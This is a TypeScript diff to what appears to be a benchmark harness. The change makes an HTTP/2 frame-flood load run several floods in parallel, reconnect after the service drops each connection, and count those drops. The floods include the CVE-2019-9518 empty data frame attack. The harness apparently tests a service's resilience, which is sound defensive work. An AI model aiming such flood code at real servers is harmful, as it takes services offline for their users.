@@ -2,68 +2,87 @@ import { setTimeout as pause } from "node:timers/promises";
 import { callHeaders } from "../../bench/header-block.ts";
 import { frame, frameFlag, frameType } from "../../bench/http2-frame.ts";
 import type { Load } from "../../bench/load.ts";
-import { FloodConnection, type Met } from "./flood-connection.ts";
+import { FloodConnection } from "./flood-connection.ts";
+
+export type FrameFloodName = keyof typeof frameFloods;
 
 export interface FrameFloodOptions {
-  readonly attack: keyof typeof frameFloods;
+  readonly attack: "frames";
   readonly port: number;
-  readonly isSecure?: boolean;
-  /** Never reads the answers. */
-  readonly isDeaf?: boolean;
+  /** Each on a connection of its own. */
+  readonly floods: readonly FrameFloodName[];
+  /** Of each connection. */
   readonly framesPerSecond: number;
 }
 
-export interface FrameFloodResult extends Met {
+export interface FrameFloodResult {
   readonly frames: number;
-  readonly isClosed: boolean;
+  /** Connections that the service ended; each was followed by a new one. */
+  readonly thrownOut: number;
 }
 
 /** How often frames go out, in ms. */
 const stepMs = 5;
 
-/** One connection that sends frames at a rate, until the service ends it. */
+/** Who was thrown out is back after this. */
+const reconnectMs = 500;
+
+/** Floods of frames, each on a connection of its own, and never an end. */
 export class FrameFlood implements Load<FrameFloodResult> {
   readonly #options: FrameFloodOptions;
-  readonly #connection: FloodConnection;
+  readonly #over = new AbortController();
   #frames = 0;
-  #isOver = false;
+  #thrownOut = 0;
 
-  private constructor(options: FrameFloodOptions, connection: FloodConnection) {
+  constructor(options: FrameFloodOptions) {
     this.#options = options;
-    this.#connection = connection;
-  }
-
-  static async start(options: FrameFloodOptions): Promise<FrameFlood> {
-    const { port, isSecure = false, isDeaf = false } = options;
-    const connection = await FloodConnection.open({ port, isSecure, isDeaf });
-    return new FrameFlood(options, connection);
   }
 
   begin(): void {
-    void this.#attack();
+    for (const name of this.#options.floods) void this.#attack(name);
   }
 
   async end(): Promise<FrameFloodResult> {
-    this.#isOver = true;
-    const { isClosed, met } = this.#connection;
-    this.#connection.close();
-    return { ...met, frames: this.#frames, isClosed };
+    this.#over.abort();
+    return { frames: this.#frames, thrownOut: this.#thrownOut };
   }
 
-  async #attack(): Promise<void> {
-    const { attack, framesPerSecond } = this.#options;
-    const flood = frameFloods[attack];
-    this.#connection.send(flood.first);
-    const began = performance.now();
-    while (!this.#isOver && !this.#connection.isClosed) {
-      const due = ((performance.now() - began) * framesPerSecond) / 1_000;
-      const frames: Buffer[] = [];
-      for (; this.#frames < due; this.#frames++) frames.push(flood.next(this.#frames));
-      this.#connection.send(Buffer.concat(frames));
-      await this.#connection.drained();
-      await pause(stepMs);
+  async #attack(name: FrameFloodName): Promise<void> {
+    const { port, framesPerSecond } = this.#options;
+    const { signal } = this.#over;
+    while (!signal.aborted) {
+      const connection = await FloodConnection.open({ port });
+      this.#frames += await pourFrames({ connection, name, framesPerSecond, signal });
+      if (connection.isClosed) this.#thrownOut += 1;
+      connection.close();
+      await pause(reconnectMs);
     }
   }
+}
+
+interface Pouring {
+  readonly connection: FloodConnection;
+  readonly name: FrameFloodName;
+  readonly framesPerSecond: number;
+  readonly signal: AbortSignal;
+}
+
+/** Resolves with the number of frames that were sent when the connection has ended, or by the signal. */
+export async function pourFrames(pouring: Pouring): Promise<number> {
+  const { connection, name, framesPerSecond, signal } = pouring;
+  const flood: Flood = frameFloods[name];
+  connection.send(flood.first);
+  const began = performance.now();
+  let sent = 0;
+  while (!signal.aborted && !connection.isClosed) {
+    const due = ((performance.now() - began) * framesPerSecond) / 1_000;
+    const frames: Buffer[] = [];
+    for (; sent < due; sent++) frames.push(flood.next(sent));
+    connection.send(Buffer.concat(frames));
+    await connection.drained();
+    await pause(stepMs);
+  }
+  return sent;
 }
 
 interface Flood {
@@ -133,7 +152,10 @@ export const frameFloods = {
   },
   /** CVE-2019-9518. */
   "empty data frames": {
-    first: opening(0),
+    first: frame(
+      { type: headers, flags: frameFlag.endHeaders, streamId: 1 },
+      callHeaders("UpdateScore").first,
+    ),
     next: () => frame({ type: data, streamId: 1 }, nothing),
   },
 } satisfies Record<string, Flood>;
